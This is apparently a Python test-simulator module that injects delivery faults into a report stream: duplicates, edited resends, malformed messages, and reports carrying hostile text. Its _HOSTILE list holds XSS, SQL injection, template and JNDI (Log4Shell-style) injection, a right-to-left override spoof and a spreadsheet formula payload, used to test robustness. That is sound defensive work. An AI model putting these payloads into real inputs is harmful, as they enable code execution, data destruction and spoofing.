"""What happens to reports on their way: sent twice, edited and sent again under the same id, and malformed ones."""

from typing import Any

from vardkase.simulator.draw import seconds
from vardkase.simulator.emission import Emission
from vardkase.simulator.faults import Faults
from vardkase.simulator.world import World
from vardkase_contracts.instants import SECOND

_HOSTILE = (
    "<script>alert('trygg')</script>",
    "'; DROP TABLE reports; --",
    "{{7*7}} ${jndi:ldap://example.invalid/a}",
    "\u202eteppö ra netknup neD\u202c",
    '=HYPERLINK("https://example.invalid";"klicka")',
)
"""Texts that do harm where they are not shown as plain text. The reports that hold them are valid."""


class Mistakes:
    """Listens to what is sent, and now and then sends something more. Heartbeats are left alone."""

    __slots__ = ("_faults", "_world")

    def __init__(self, world: World) -> None:
        self._world = world
        self._faults = Faults(world)

    def after(self, emission: Emission) -> None:
        """A report is on its way."""
        kind = emission.subject[emission.subject.rindex(".") + 1 :]
        if kind == "heartbeat":
            return
        world, settings = self._world, self._world.scenario.mistakes
        rng = world.rng
        if rng.random() < settings.duplicate_share:
            self._again(emission, emission.event)
        if rng.random() < settings.malformed_share and kind != "activation":
            world.send_as_is(self._faults.next(emission))
        if kind == "status":
            if "occupancy" in emission.event["data"] and rng.random() < settings.edited_resend_share:
                self._edited(emission)
            if rng.random() < settings.hostile_text_share:
                self._hostile(emission)

    def _again(self, emission: Emission, event: dict[str, Any]) -> None:
        world = self._world
        later = emission.at + seconds(world.scenario.mistakes.duplicate_s.draw(world.rng))
        world.send_as_is(Emission(at=later, subject=emission.subject, event=event))

    def _edited(self, emission: Emission) -> None:
        data = emission.event["data"]
        self._again(emission, emission.event | {"data": data | {"occupancy": data["occupancy"] + 1}})

    def _hostile(self, emission: Emission) -> None:
        rng = self._world.rng
        text = rng.choice(_HOSTILE)
        data = {"message": {"sv": text}} if rng.random() < 0.25 else {"note": text}
        event = emission.event | {"id": self._world.new_id(emission.at), "data": data}
        event["seq"] = emission.event["seq"] + 1_000_000
        later = emission.at + rng.randint(1, 60) * SECOND
        self._world.send_as_is(Emission(at=later, subject=emission.subject, event=event))
